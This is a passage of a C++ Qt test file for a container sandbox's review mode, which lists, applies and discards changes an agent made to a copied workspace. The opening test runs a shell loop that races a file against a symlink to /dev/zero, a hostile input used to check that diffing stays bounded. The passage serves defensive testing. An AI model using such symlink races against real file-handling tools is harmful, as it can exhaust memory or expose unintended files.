        QStringLiteral("cd /workspace && echo after > .real && touch .swap-on && while [ -e .swap-on ]; do "
                       "cp .real .v && mv -f .v victim.txt && ln -sf /dev/zero .z && mv -f .z victim.txt; done"),
        true);
    QVERIFY2(loop.exitCode == 0, loop.err.constData());
    QTest::qWait(300);
    QStringList seen;
    for (int i = 0; i < 6; ++i) {
        const ChangeDetail raced = ReviewService::detailOf(*runtime, *record, victim);
        seen << (raced.ok ? QStringLiteral("read") : raced.error.section(QLatin1Char(' '), 1, 5));
        if (raced.ok) {
            QVERIFY2(raced.unifiedDiff.contains(QStringLiteral("+after")), qPrintable(raced.unifiedDiff));
        } else {
            QVERIFY2(raced.error.contains(QStringLiteral("victim.txt")), qPrintable(raced.error));
        }
    }
    for (int i = 0; i < 3; ++i) {
        const QList<ApplyOutcome> raced =
            ReviewService::applyChanges(*runtime, reviews, *record, {victim}, false, &error);
        QCOMPARE(raced.size(), 1);
        QVERIFY2(raced.first().result != ApplyOutcome::Result::Conflict, qPrintable(raced.first().reason));
        seen << raced.first().reason.section(QLatin1Char(' '), -12, -8);
        const QByteArray now = readFile(ws + QStringLiteral("/victim.txt"));
        QVERIFY2(now == "before\n" || now == "after\n", now.left(64).toHex().constData());
    }
    inContainer(QStringLiteral("rm -f /workspace/.swap-on"));
    sampler.stop();
    qInfo() << "in the loop:" << seen << "peak VmRSS KiB:" << sampler.peakRssKiB()
            << "largest temporary file:" << sampler.largestFile();
    QVERIFY2(sampler.peakRssKiB() > 0 && sampler.peakRssKiB() < 200 * 1024,
             qPrintable(QStringLiteral("peak VmRSS %1 KiB").arg(sampler.peakRssKiB())));
    QVERIFY2(sampler.largestFile() <= 5 * 1024 * 1024,
             qPrintable(QStringLiteral("a temporary file of %1 bytes").arg(sampler.largestFile())));
    manager->endSession(session);
}

void TestReviewMode::sizeCapIsAClearError() {
    const QString engine = QStringLiteral("docker");
    ZEUS_REQUIRE_ENGINE(engine);
    const QString ws = makeWorkspace(m_dir, QStringLiteral("capped"));
    QVERIFY(QDir().mkpath(ws + QStringLiteral("/node_stuff")));
    QVERIFY(writeFile(ws + QStringLiteral("/node_stuff/blob"), QByteArray(64 * 1024, 'x')));
    QVERIFY(writeFile(ws + QStringLiteral("/small.txt"), "s\n"));
    m_engine = engine;
    m_owner = uniqueOwner();
    SandboxConfig config = testConfig(m_owner);
    config.folderWorkspaceModes.insert(ws, WorkspaceMode::Review);
    config.reviewDirectory = store().directory();
    config.reviewSizeCap = 16 * 1024;
    SessionManager manager(ContainerRuntime::create(RuntimeKind::Docker), config);
    Recorder recorder(manager);
    const ExecResult result = recorder.run(QStringLiteral("capped"), ws, QStringLiteral("echo never"), 0, 120000);
    QCOMPARE(result.status, ExecStatus::Error);
    QCOMPARE(result.errorCode, ExecError::WorkspaceInvalid);
    QVERIFY2(result.errorMessage.contains(QStringLiteral("node_stuff")), qPrintable(result.errorMessage));
    QVERIFY(!recorder.stdoutOf.value(result.callId).contains(QStringLiteral("never")));
    QTRY_COMPARE_WITH_TIMEOUT(containersOf(engine, m_owner), QStringList(), 30000);  // never a partial copy left
    QVERIFY(!store().record(QStringLiteral("capped")));
}

// SIGKILL of the app binary while the agent works on the copy: the record was written before the first command,
// so the command line finds the copy, lists exactly what changed, applies it and discards the container.
void TestReviewMode::appKilledLosesNothing() {
    const QString engine = QStringLiteral("docker");
    ZEUS_REQUIRE_ENGINE(engine);
    const QString home = m_dir.filePath(QStringLiteral("killed-home"));
    const QString ws = makeWorkspace(m_dir, QStringLiteral("killed"));
    QVERIFY(writeFile(ws + QStringLiteral("/a.txt"), "before\n"));
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert(QStringLiteral("XDG_DATA_HOME"), home + QStringLiteral("/data"));
    environment.insert(QStringLiteral("XDG_CONFIG_HOME"), home + QStringLiteral("/config"));
    environment.remove(QStringLiteral("QT_LOGGING_RULES"));
    const auto runApp = [&environment](const QStringList& arguments, QByteArray* out = nullptr) {
        QProcess process;
        process.setProcessEnvironment(environment);
        process.start(QStringLiteral(ZEUS_APP_BINARY), arguments);
        if (!process.waitForFinished(120000)) {
            process.kill();
            process.waitForFinished(5000);
            return -1;
        }
        if (out) {
            *out = process.readAllStandardOutput();
        }
        return process.exitStatus() == QProcess::NormalExit ? process.exitCode() : -1;
    };

    QProcess app;
    app.setProcessEnvironment(environment);
    app.start(QStringLiteral(ZEUS_APP_BINARY),
              {QStringLiteral("--workspace"), ws, QStringLiteral("--runtime"), engine, QStringLiteral("--image"),
               testImage(), QStringLiteral("--workspace-mode"), QStringLiteral("review"), QStringLiteral("--exec"),
               QStringLiteral("echo after > a.txt && echo new > b.txt && echo READY && sleep 300")});
    QVERIFY(app.waitForStarted(10000));
    QByteArray printed;
    QVERIFY(QTest::qWaitFor(
        [&] {
            printed += app.readAllStandardOutput();
            return printed.contains("READY") || app.state() == QProcess::NotRunning;
        },
        120000));
    QVERIFY2(printed.contains("READY"), app.readAllStandardError().constData());
    app.kill();  // SIGKILL: no shutdown, no stop, no listing
    QVERIFY(app.waitForFinished(10000));
    QCOMPARE(readFile(ws + QStringLiteral("/a.txt")), QByteArray("before\n"));  // nothing on the host yet
    QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/b.txt")));

    QByteArray out;
    QCOMPARE(runApp({QStringLiteral("--changes"), QStringLiteral("--json")}, &out), 0);
    const QJsonArray copies = QJsonDocument::fromJson(out).object().value(QLatin1String("reviews")).toArray();
    QString session;
    QString containerId;
    for (const QJsonValue& copy : copies) {
        if (copy.toObject().value(QLatin1String("workspace")).toString() == QFileInfo(ws).canonicalFilePath()) {
            session = copy.toObject().value(QLatin1String("session")).toString();
            containerId = copy.toObject().value(QLatin1String("container")).toString();
        }
    }
    QVERIFY2(!session.isEmpty() && !containerId.isEmpty(), out.constData());
    QCOMPARE(runApp({QStringLiteral("--changes"), QStringLiteral("--json"), session}, &out), 0);
    QStringList listed;
    for (const QJsonValue& item : QJsonDocument::fromJson(out).object().value(QLatin1String("changes")).toArray()) {
        listed << item.toObject().value(QLatin1String("kind")).toString() + QLatin1Char(' ')
                      + item.toObject().value(QLatin1String("path")).toString();
    }
    listed.sort();
    QCOMPARE(listed, (QStringList{QStringLiteral("A b.txt"), QStringLiteral("M a.txt")}));

    QCOMPARE(runApp({QStringLiteral("--apply"), session}, &out), 0);
    QCOMPARE(readFile(ws + QStringLiteral("/a.txt")), QByteArray("after\n"));
    QCOMPARE(readFile(ws + QStringLiteral("/b.txt")), QByteArray("new\n"));
    QCOMPARE(runApp({QStringLiteral("--discard"), session}, &out), 0);
    QTRY_COMPARE_WITH_TIMEOUT(containerState(engine, containerId), QStringLiteral("gone"), 30000);
    QCOMPARE(runApp({QStringLiteral("--changes"), session}), 2);  // no such review copy any more
}

QTEST_GUILESS_MAIN(TestReviewMode)
#include "tst_reviewmode.moc"
